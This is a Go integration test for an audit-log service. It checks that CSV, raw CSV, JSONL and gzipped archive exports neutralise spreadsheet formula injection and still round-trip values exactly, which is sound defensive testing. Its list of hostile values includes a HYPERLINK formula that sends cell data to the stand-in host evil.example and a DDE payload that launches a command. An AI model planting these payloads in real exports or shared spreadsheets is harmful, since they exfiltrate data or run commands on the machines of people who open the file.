package archive_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"io"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/trailmark/trailmark/ent/schema/schematype"
	"github.com/trailmark/trailmark/internal/archive"
	"github.com/trailmark/trailmark/internal/testserver"
)

// hostileValues are values an INGEST key (or an invitee naming themself)
// can store: formulas a spreadsheet would run, and text with the line
// breaks, quotes and commas that CSV writers get wrong.
var hostileValues = []string{
	`=HYPERLINK("https://evil.example/?d="&A1,"Click for details")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"'quoted already",
	"line1\nline2",
	"a\rb",
	"a\r\nb",
	"\n\nleading breaks",
	`say "hi", then go`,
	" spaced ",
	"trailing\r",
	"plain text",
	"é☃ =not first",
}

// formulaStart reports whether a cell starting like v is one a
// spreadsheet may run as a formula (OWASP's list).
func formulaStart(v string) bool { return v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) }

// TestCSVCellsAreSafeAndExact: values planted through ingestion come out
// of the CSV export and of CSV_GZ archives so that no cell starts like a
// formula (a ' goes before such a cell, and before one that starts with a
// ' already), and every cell, read by a strict RFC 4180 parser, is the
// stored value exactly once that one ' is removed. raw=true gives the
// stored values as they are; JSONL is always exact.
func TestCSVCellsAreSafeAndExact(t *testing.T) {
	testserver.Each(t, func(t *testing.T, s *testserver.Server) {
		acme := s.CreateTenant(t, "acme")
		ingest, _ := s.APIKey(t, acme.ID, schematype.ScopeIngest)
		_, admin := s.Member(t, acme.ID, schematype.RoleAdmin, nil)
		var entries []map[string]any
		for i, v := range hostileValues {
			entries = append(entries, map[string]any{
				"action": "member.invite", "resourceType": "user", "resourceID": "v" + strconv.Itoa(i),
				"resourceName": v, "actor": map[string]any{"type": "USER", "name": v},
			})
		}
		s.GraphQL(t, ingest, `mutation($t: ID!, $e: [AuditEntryInput!]!) { recordAuditEntries(tenantID: $t, entries: $e) { created } }`,
			map[string]any{"t": acme.ID, "e": entries}).NoErrors(t)

		// check reads a CSV file: header, one row per value, the cells of
		// resourceName (6) and actorName (10) as wanted, and no cell of
		// any column starting like a formula unless raw.
		check := func(t *testing.T, what string, body []byte, raw bool) {
			t.Helper()
			recs := readRFC4180(t, body)
			if len(recs) == 0 || !slices.Equal(recs[0], archive.CSVHeader) {
				t.Fatalf("%s: header %q", what, recs)
			}
			seen := 0
			for _, rec := range recs[1:] {
				if len(rec) != len(archive.CSVHeader) {
					t.Fatalf("%s: %d cells in %q", what, len(rec), rec)
				}
				for col, cell := range rec {
					if !raw && formulaStart(cell) {
						t.Errorf("%s: %s cell %q starts like a formula", what, archive.CSVHeader[col], cell)
					}
				}
				id, ok := strings.CutPrefix(rec[5], "v")
				i, err := strconv.Atoi(id)
				if !ok || err != nil || i < 0 || i >= len(hostileValues) {
					continue // not one of the planted entries
				}
				seen++
				v := hostileValues[i]
				want := v
				if !raw && (formulaStart(v) || v[0] == '\'') {
					want = "'" + v
				}
				if rec[6] != want || rec[10] != want {
					t.Errorf("%s: value %q: resourceName cell %q, actorName cell %q; want %q", what, v, rec[6], rec[10], want)
				}
			}
			if seen != len(hostileValues) {
				t.Fatalf("%s: %d of %d planted entries", what, seen, len(hostileValues))
			}
		}

		q := url.Values{"tenant": {"acme"}, "filter": {"action = 'member.invite'"}}
		resp := get(t, s, admin, "/export/audit-entries.csv?"+q.Encode())
		body, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 200 {
			t.Fatalf("csv export: HTTP %d %s", resp.StatusCode, body)
		}
		check(t, "csv export", body, false)

		q.Set("raw", "true")
		resp = get(t, s, admin, "/export/audit-entries.csv?"+q.Encode())
		body, _ = io.ReadAll(resp.Body)
		if resp.StatusCode != 200 {
			t.Fatalf("raw csv export: HTTP %d %s", resp.StatusCode, body)
		}
		check(t, "raw csv export", body, true)

		resp = get(t, s, admin, "/export/audit-entries.jsonl?"+q.Encode())
		sc := bufio.NewScanner(resp.Body)
		n := 0
		for sc.Scan() {
			var r archive.Row
			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
				t.Fatalf("jsonl line %q: %v", sc.Text(), err)
			}
			i := slices.IndexFunc(hostileValues, func(v string) bool { return r.ResourceName != nil && *r.ResourceName == v })
			if i < 0 || r.Actor.Name == nil || *r.Actor.Name != hostileValues[i] || *r.ResourceID != "v"+strconv.Itoa(i) {
				t.Fatalf("jsonl export changed a value: %s", sc.Text())
			}
			n++
		}
		if n != len(hostileValues) {
			t.Fatalf("jsonl export: %d lines", n)
		}

		q.Set("raw", "maybe")
		resp = get(t, s, admin, "/export/audit-entries.csv?"+q.Encode())
		var e struct {
			Errors []struct{ Extensions map[string]any }
		}
		_ = json.NewDecoder(resp.Body).Decode(&e)
		if resp.StatusCode != 400 || len(e.Errors) != 1 || e.Errors[0].Extensions["code"] != "BAD_USER_INPUT" || e.Errors[0].Extensions["field"] != "raw" {
			t.Fatalf("raw=maybe: HTTP %d %+v", resp.StatusCode, e)
		}

		var d struct{ CreateArchive struct{ ID string } }
		s.GraphQL(t, admin, `mutation($t: ID!, $in: CreateArchiveInput!) { createArchive(tenantID: $t, input: $in) { id } }`,
			map[string]any{"t": acme.ID, "in": map[string]any{
				"from": time.Now().Add(-time.Hour), "to": time.Now().Add(time.Hour), "format": "CSV_GZ", "filter": "action = 'member.invite'",
			}}).NoErrors(t).Decode(t, &d)
		p := waitProcess(t, s, admin, d.CreateArchive.ID)
		if p.Status != "SUCCEEDED" || p.Archive == nil {
			t.Fatalf("archive: process %s %v", p.Status, p.Error)
		}
		resp = get(t, s, admin, p.Archive.DownloadURL)
		gz, _ := io.ReadAll(resp.Body)
		zr, err := gzip.NewReader(bytes.NewReader(gz))
		if err != nil {
			t.Fatalf("archive download: HTTP %d: %v", resp.StatusCode, err)
		}
		plain, err := io.ReadAll(zr)
		if err != nil {
			t.Fatal(err)
		}
		check(t, "CSV_GZ archive", plain, false)
	}, fastJobs)
}

// readRFC4180 parses b strictly by RFC 4180: records end with CRLF, a
// field is either unquoted (no comma, quote, CR or LF) or quoted, holding
// any bytes with "" for a quote. Unlike encoding/csv it keeps a CR or a
// CRLF inside a quoted field as it is.
func readRFC4180(t *testing.T, b []byte) [][]string {
	t.Helper()
	var recs [][]string
	var rec []string
	for i := 0; i < len(b); {
		var f strings.Builder
		if b[i] == '"' {
			for i++; ; i++ {
				if i >= len(b) {
					t.Fatal("csv: unterminated quoted field")
				}
				if b[i] == '"' {
					if i+1 < len(b) && b[i+1] == '"' {
						f.WriteByte('"')
						i++
						continue
					}
					i++
					break
				}
				f.WriteByte(b[i])
			}
		} else {
			for ; i < len(b) && b[i] != ',' && b[i] != '\r' && b[i] != '\n'; i++ {
				if b[i] == '"' {
					t.Fatalf("csv: quote inside an unquoted field at byte %d", i)
				}
				f.WriteByte(b[i])
			}
		}
		rec = append(rec, f.String())
		switch {
		case i < len(b) && b[i] == ',':
			i++
			if i == len(b) {
				t.Fatal("csv: the file ends after a comma")
			}
		case i+1 < len(b) && b[i] == '\r' && b[i+1] == '\n':
			recs = append(recs, rec)
			rec = nil
			i += 2
		default:
			t.Fatalf("csv: byte %d: want a comma or CRLF after a field, got %q", i, b[i:min(i+20, len(b))])
		}
	}
	if rec != nil {
		t.Fatal("csv: the last record does not end with CRLF")
	}
	return recs
}
